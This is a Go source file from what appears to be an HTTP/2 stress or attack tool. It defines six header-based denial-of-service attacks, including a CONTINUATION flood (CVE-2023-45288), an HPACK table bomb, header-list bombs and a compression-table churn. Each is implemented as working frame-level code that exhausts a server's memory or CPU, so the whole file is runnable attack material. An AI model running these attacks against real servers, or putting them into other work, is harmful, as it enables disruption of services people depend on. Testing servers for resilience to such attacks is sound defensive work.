// SPDX-License-Identifier: Apache-2.0

package main

import (
	"strings"

	"golang.org/x/net/http2"
)

var headers = family{"header blocks that are larger than they look, or never end", []attack{
	{
		name: "continuation-flood", cve: "CVE-2023-45288", about: "begins a header block and sends CONTINUATIONs that never end it, Huffman-coded",
		open: func(h *hostile) {
			must(h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream(), BlockFragment: h.requestFields(chargePath)}))
		},
		more: flood(func(h *hostile) {
			var fragment []byte
			for len(fragment) < 16000 {
				fragment = append(append(append(fragment, 0x00), huffman("x-a")...), huffman(strings.Repeat("a", 100))...)
			}
			must(h.framer.WriteContinuation(1, false, fragment))
		}),
	},
	{
		name: "table-bomb", about: "puts a field of 4 KiB into the compression table and refers to it thousands of times in each request",
		open: func(h *hostile) {
			id := h.stream()
			h.head(id, h.requestFields(chargePath), true)
			id = h.stream()
			h.head(id, h.fields("x-bomb", strings.Repeat("b", 3900)), true)
		},
		more: flood(func(h *hostile) {
			block := append([]byte{0x83, 0x86, 0x84}, strings.Repeat("\xbe", 16000)...) // POST, http, /, and the newest entry
			h.head(h.stream(), block, false)
		}),
	},
	{
		name: "list-bomb", about: "sends header lists of as many tiny fields as the limit allows, by reference, in calls that never end",
		open: func(h *hostile) { h.head(h.stream(), h.fields("a", ""), true) },
		more: flood(func(h *hostile) {
			block := append([]byte(nil), h.requestFields(chargePath)...)
			fresh := h.fields("a", "")
			block = append(block, strings.Repeat(string(fresh), 1800)...)
			h.head(h.stream(), block, false)
		}),
	},
	{
		name: "list-flood", variant: true, about: "sends header lists that are above the limit, in HEADERS and CONTINUATIONs that end",
		more: func(h *hostile) bool {
			id := h.stream()
			value := strings.Repeat("v", 16000)
			must(h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.requestFields(chargePath)}))
			for i := range 5 {
				must(h.framer.WriteContinuation(id, i == 4, literal("x-large", value)))
			}
			return true
		},
	},
	{
		name: "metadata-hoard", about: "sends header lists of just below the limit, in calls that never end",
		more: func(h *hostile) bool {
			id := h.stream()
			value := strings.Repeat("v", 15000)
			must(h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.requestFields(chargePath)}))
			for i := range 4 {
				must(h.framer.WriteContinuation(id, i == 3, literal("x-large", value)))
			}
			return true
		},
	},
	{
		name: "table-churn", variant: true, about: "makes the compression table take in and throw out entries with every request",
		more: flood(func(h *hostile) {
			h.turn++
			var fields []string
			for i := range 100 {
				fields = append(fields, "x-"+strings.Repeat("n", (h.turn+i)%50), strings.Repeat("v", (h.turn*i)%50))
			}
			h.head(h.stream(), h.requestFields(chargePath, fields...), true)
		}),
	},
}}

// literal is a field without indexing and without Huffman code.
func literal(name, value string) []byte {
	block := append([]byte{0x00, byte(len(name))}, name...)
	return append(appendLength(block, len(value)), value...)
}

// appendLength appends the length of a string (RFC 7541 section 5.1, with a prefix of 7 bits).
func appendLength(dst []byte, n int) []byte {
	if n < 127 {
		return append(dst, byte(n))
	}
	dst = append(dst, 127)
	for n -= 127; n >= 128; n >>= 7 {
		dst = append(dst, byte(n)|0x80)
	}
	return append(dst, byte(n))
}
